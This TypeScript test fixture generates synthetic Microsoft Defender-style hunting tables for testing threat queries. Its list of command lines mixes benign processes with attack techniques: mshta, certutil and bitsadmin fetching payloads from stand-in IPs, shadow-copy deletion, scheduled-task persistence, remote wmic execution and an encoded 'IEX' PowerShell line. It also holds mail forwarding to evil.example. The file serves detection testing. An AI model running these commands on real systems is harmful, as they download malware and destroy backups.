// Hunting tables filled with what an organisation of 2,000 devices might send in 30 days: by arithmetic on the number of
// the row, in the engine itself, so that the same rows come out every time and three million of them in a minute.
import type { DuckDBConnection } from '@duckdb/node-api';
import { columnDefinition, qualifiedName } from '../../src/events/dialect.ts';
import { storedTable } from '../../src/hunting/ingest/table-reader.ts';
import { eventTableOf } from '../../src/hunting/schema/stored.ts';

export const tenant = '6f1d4c1e-0b5f-4a54-9f0a-3b7f0c1d2e3f';
const otherTenant = '0c9f0a77-13d5-4d0f-8c0e-5a1b2c3d4e5f';

const ticksAtEpoch = 621_355_968_000_000_000n;
export const ticksOfDay = 864_000_000_000n;
/** The time of every run, and the end of the 30 days. */
export const endTicks = BigInt(Date.UTC(2024, 2, 31)) * 10_000n + ticksAtEpoch;
export const beginTicks = endTicks - 30n * ticksOfDay;

/** A number below `count`, another one for every row and salt. */
const pick = (salt: number, count: number): string => `(hash(i, ${salt}) % ${count})::BIGINT`;
/** The same, small ones more often. */
const skewed = (salt: number, count: number): string =>
  `floor(${count} * pow((hash(i, ${salt}) % 1000003) / 1000003.0, 2.5))::BIGINT`;
const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const listOf = (items: readonly string[]): string => `[${items.map(quoted).join(', ')}]`;
const oneOf = (items: readonly string[], index: string): string => `(${listOf(items)})[1 + ${index}]`;
/** Every so many rows. */
const rarely = (salt: number, every: number): string => `(hash(i, ${salt}) % ${every} = 0)`;

const files = [
  'svchost.exe', 'chrome.exe', 'msedge.exe', 'conhost.exe', 'RuntimeBroker.exe', 'cmd.exe', 'backgroundTaskHost.exe',
  'powershell.exe', 'WmiPrvSE.exe', 'Teams.exe', 'OUTLOOK.EXE', 'taskhostw.exe', 'git.exe', 'node.exe', 'python.exe',
  'rundll32.exe', 'SearchProtocolHost.exe', 'wscript.exe', 'regsvr32.exe', 'mshta.exe', 'net.exe', 'whoami.exe',
  'schtasks.exe', 'certutil.exe', 'bitsadmin.exe', 'reg.exe', 'nltest.exe', 'wmic.exe', 'PSEXESVC.exe', 'vssadmin.exe',
]; // biome-ignore format: a plain list reads best as one block

const commands = [
  'svchost.exe -k netsvcs -p -s Schedule', '"chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --client-id={n}',
  '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --mojo-platform-channel-handle={n}',
  'conhost.exe 0xffffffff -ForceV1', 'RuntimeBroker.exe -Embedding', 'cmd.exe /c "C:\\Build\\agent\\run_{n}.cmd" /quiet',
  'backgroundTaskHost.exe -ServerName:App.AppX{n}.mca', 'powershell.exe -NoProfile -File C:\\Ops\\inventory-{n}.ps1',
  'wmiprvse.exe -secured -Embedding', '"Teams.exe" --type=gpu-process --field-trial-handle={n}',
  '"OUTLOOK.EXE" /recycle /session {n}', 'taskhostw.exe KEYROAMING', 'git.exe fetch --prune origin feature/{n}',
  'node.exe C:\\Work\\service\\index.js --port {n}', 'python.exe -m pip install package-{n}==1.0',
  'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL {n}', 'SearchProtocolHost.exe Global\\UsGthrFltPipe{n}',
  'wscript.exe "C:\\Users\\u{n}\\Downloads\\invoice_{n}.js"', 'regsvr32.exe /s C:\\Program Files\\App\\plugin{n}.dll',
  'mshta.exe http://203.0.113.7/a{n}.hta', 'net.exe user svc{n} /domain', 'whoami.exe /all /fo list',
  'schtasks.exe /create /tn Update{n} /tr C:\\ProgramData\\u.exe /sc minute',
  'certutil.exe -urlcache -split -f http://198.51.100.9/p{n}.txt C:\\Temp\\p.exe',
  'bitsadmin.exe /transfer job{n} /download http://198.51.100.9/x.bin C:\\Temp\\x.bin',
  'reg.exe add HKLM\\Software\\App /v Value{n} /d 1 /f', 'nltest.exe /domain_trusts /all_trusts',
  'wmic.exe /node:srv{n} process call create "cmd.exe /c whoami"', 'PSEXESVC.exe -accepteula {n}',
  'vssadmin.exe delete shadows /all /quiet',
]; // biome-ignore format: a plain list reads best as one block

const encoded = `'powershell.exe -nop -w hidden -EncodedCommand ' || to_base64(encode('IEX stage ' || i || ' of the load'))`;
const person = "lpad(number::VARCHAR, 4, '0')";
const hashText = (salt: number, count: number): string =>
  `sha256((${salt} * 1000000 + ${skewed(salt, count)})::VARCHAR)`;

/** Values of the columns that are filled; all others are as empty as a source that does not send them leaves them. */
type Values = Readonly<Record<string, string>>;

const device: Values = {
  DeviceId: 'md5(device::VARCHAR)',
  DeviceName: `'pc-' || lpad(device::VARCHAR, 5, '0') || '.contoso.example'`,
};

const initiating: Values = {
  InitiatingProcessFileName: oneOf(files, 'parent'),
  InitiatingProcessFolderPath: `'C:\\Windows\\System32\\' || ${oneOf(files, 'parent')}`,
  InitiatingProcessCommandLine: `replace(${oneOf(commands, 'parent')}, '{n}', ${pick(8, 500)}::VARCHAR)`,
  InitiatingProcessId: pick(9, 30_000),
  InitiatingProcessAccountName: `'user' || ${person}`,
  InitiatingProcessSHA256: hashText(10, 3000),
};

const tables: Readonly<Record<string, { readonly share: number; readonly values: Values }>> = {
  DeviceProcessEvents: {
    share: 1,
    values: {
      ...device,
      ...initiating,
      ActionType: "'ProcessCreated'",
      FileName: oneOf(files, 'file'),
      FolderPath: `CASE WHEN ${rarely(21, 50)} THEN 'C:\\Users\\user' || ${person} || '\\AppData\\Local\\Temp\\' ELSE 'C:\\Windows\\System32\\' END || ${oneOf(files, 'file')}`,
      ProcessCommandLine: `CASE WHEN ${rarely(22, 4000)} THEN ${encoded} ELSE replace(${oneOf(commands, 'file')}, '{n}', ${pick(23, 100_000)}::VARCHAR) END`,
      ProcessId: pick(24, 60_000),
      SHA256: hashText(25, 5000),
      SHA1: `substr(${hashText(25, 5000)}, 1, 40)`,
      FileSize: `1000 * ${pick(26, 9000)}`,
      AccountName: `CASE WHEN ${rarely(27, 3)} THEN 'system' ELSE 'user' || ${person} END`,
      AccountDomain: oneOf(['contoso', 'nt authority'], pick(27, 2)),
      ProcessIntegrityLevel: oneOf(['Medium', 'High', 'System', 'Low'], skewed(28, 4)),
      InitiatingProcessParentFileName: oneOf(files, skewed(29, files.length)),
      ProcessVersionInfoOriginalFileName: `CASE WHEN ${rarely(30, 2000)} THEN 'renamed.exe' ELSE ${oneOf(files, 'file')} END`,
      ProcessCreationTime: 'ticks - 10000',
      ReportId: 'i',
    },
  },
  DeviceNetworkEvents: {
    share: 1 / 3,
    values: {
      ...device,
      ...initiating,
      ActionType: oneOf(['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'], skewed(31, 3)),
      RemoteIP: `CASE WHEN ${rarely(32, 3)} THEN '10.' || ${pick(33, 4)} || '.' || ${pick(34, 255)} || '.7' ELSE '198.' || ${pick(35, 90)} || '.' || ${pick(36, 200)} || '.' || ${pick(37, 250)} END`,
      RemotePort: `(${`[443, 80, 53, 445, 3389, 8080, 22, 4444, 135, 5985]`})[1 + ${skewed(38, 10)}]`,
      RemoteUrl: `CASE WHEN ${rarely(39, 2)} THEN '' ELSE 'host' || ${skewed(40, 8000)} || '.' || ${oneOf(['example.com', 'cdn.example.net', 'onion.example', 'files.example.org'], skewed(41, 4))} END`,
      LocalIP: `'10.1.' || (device % 250) || '.' || (device % 200)`,
      Protocol: oneOf(['Tcp', 'Udp'], skewed(42, 2)),
      ReportId: 'i',
    },
  },
  DeviceLogonEvents: {
    share: 0.2,
    values: {
      ...device,
      ActionType: oneOf(['LogonSuccess', 'LogonFailed', 'LogonAttempted'], skewed(51, 3)),
      LogonType: oneOf(['Network', 'Interactive', 'RemoteInteractive', 'Service', 'Batch'], skewed(52, 5)),
      AccountName: `'user' || ${person}`,
      AccountDomain: "'contoso'",
      RemoteIP: `'10.' || ${pick(53, 3)} || '.' || ${pick(54, 200)} || '.9'`,
      RemoteDeviceName: `'PC-' || lpad(${skewed(55, 2000)}::VARCHAR, 5, '0')`,
      IsLocalAdmin: rarely(56, 9),
      LogonId: pick(57, 1_000_000),
      AdditionalFields: `'{"IsLocalLogon":' || (${rarely(58, 2)})::VARCHAR || ',"Attempts":' || ${pick(59, 9)} || '}'`,
      ReportId: 'i',
    },
  },
  DeviceFileEvents: {
    share: 0.2,
    values: {
      ...device,
      ...initiating,
      ActionType: oneOf(['FileCreated', 'FileRenamed', 'FileModified', 'FileDeleted'], skewed(61, 4)),
      FileName: `'document' || ${skewed(62, 50_000)} || '.' || ${oneOf(['docx', 'tmp', 'dll', 'exe', 'js', 'zip', 'locked'], skewed(63, 7))}`,
      FolderPath: `'C:\\Users\\user' || ${person} || '\\Downloads\\'`,
      SHA256: hashText(25, 5000),
      FileSize: pick(64, 5_000_000),
      ReportId: 'i',
    },
  },
  CloudAppEvents: {
    share: 0.1,
    values: {
      ActionType: oneOf(
        ['FileDownloaded', 'MailItemsAccessed', 'UserLoggedIn', 'New-InboxRule', 'FileDeleted'],
        skewed(71, 5),
      ),
      Application: oneOf(
        ['Microsoft SharePoint Online', 'Microsoft Exchange Online', 'Microsoft Teams'],
        skewed(72, 3),
      ),
      AccountObjectId: 'md5(number::VARCHAR)',
      AccountDisplayName: `'Person ' || ${person}`,
      IPAddress: `'203.0.' || ${pick(73, 100)} || '.' || ${pick(74, 250)}`,
      CountryCode: oneOf(['DE', 'FR', 'US', 'NL', 'BR', 'KP'], skewed(75, 6)),
      ActivityObjects: `'[{"Type":"File","Name":"report' || ${pick(76, 5000)} || '.xlsx"},{"Type":"Account","Name":"Person ' || ${person} || '"}]'`,
      RawEventData: `'{"Operation":"op' || ${pick(77, 20)} || '","UserId":"user' || ${person} || '@contoso.example","ResultStatus":"' || ${oneOf(['Succeeded', 'Failed'], skewed(78, 2))} || '","RecordType":' || ${pick(79, 60)} || ',"Size":' || ${pick(80, 1_000_000)} || ',"Parameters":[{"Name":"Identity","Value":"u' || ${person} || '"},{"Name":"ForwardTo","Value":"x' || ${pick(81, 900)} || '@' || ${oneOf(['contoso.example', 'evil.example'], skewed(82, 2))} || '"}]}'`,
      ReportId: 'i::VARCHAR',
    },
  },
  EmailEvents: {
    share: 0.1,
    values: {
      NetworkMessageId: 'md5(i::VARCHAR)',
      SenderFromAddress: `'news' || ${skewed(91, 3000)} || '@' || ${oneOf(['partner.example', 'shop.example', 'evil.example', 'contoso.example'], skewed(92, 4))}`,
      SenderFromDomain: oneOf(['partner.example', 'shop.example', 'evil.example', 'contoso.example'], skewed(92, 4)),
      RecipientEmailAddress: `'user' || ${person} || '@contoso.example'`,
      Subject: `${oneOf(['Invoice', 'Meeting notes', 'Your password expires', 'Weekly report', 'RE: order'], skewed(93, 5))} || ' ' || ${pick(94, 9999)}`,
      EmailDirection: oneOf(['Inbound', 'Intra-org', 'Outbound'], skewed(95, 3)),
      DeliveryAction: oneOf(['Delivered', 'Junked', 'Blocked'], skewed(96, 3)),
      ThreatTypes: oneOf(['', 'Phish', 'Spam', 'Malware, Phish'], skewed(97, 4)),
      AuthenticationDetails: `'{"SPF":"' || ${oneOf(['pass', 'fail', 'none'], skewed(98, 3))} || '","DMARC":"pass"}'`,
      UrlCount: skewed(99, 12),
      ReportId: 'i::VARCHAR',
    },
  },
};

/** Makes and fills the tables of the database `hunting`, in the order of time; every 50th row is of another tenant. */
export async function fillHuntingTables(
  connection: DuckDBConnection,
  processEvents: number,
  names: readonly string[] = Object.keys(tables),
): Promise<void> {
  for (const [name, { share, values }] of Object.entries(tables)) {
    if (!names.includes(name)) continue;
    const described = storedTable(name);
    if (!described) throw new Error(`There is no table ${name}.`);
    const table = eventTableOf(described);
    const types = new Map(described.columns.map((column) => [column.name, column.type]));
    const columns = Object.keys(values).map((column) => `"${column}"`);
    const whole = Object.entries(values).map(([column, sql]) =>
      types.get(column) === 'string' ? `(${sql})::VARCHAR` : `(${sql})`,
    );
    const count = Math.round(processEvents * share);
    const step = (endTicks - beginTicks) / BigInt(count);
    const source = `select i, ${beginTicks} + i * ${step} as ticks, ${skewed(1, files.length)} as file,
      ${skewed(2, files.length)} as parent, ${skewed(3, 2000)} as device, ${skewed(4, 3000)} as number
      from range(${count}) as numbers(i)`;
    await connection.run(`create table ${qualifiedName(table)} (${table.columns.map(columnDefinition).join(', ')})`);
    await connection.run(`insert into ${qualifiedName(table)} ("$tenant", "$key", "$ingested", "Timestamp", ${columns.join(', ')})
      select (CASE WHEN i % 50 = 49 THEN '${otherTenant}' ELSE '${tenant}' END)::UUID,
        md5(i::VARCHAR)::UUID, ticks, ticks, ${whole.join(', ')} from (${source})`);
  }
  await connection.run('checkpoint hunting');
}
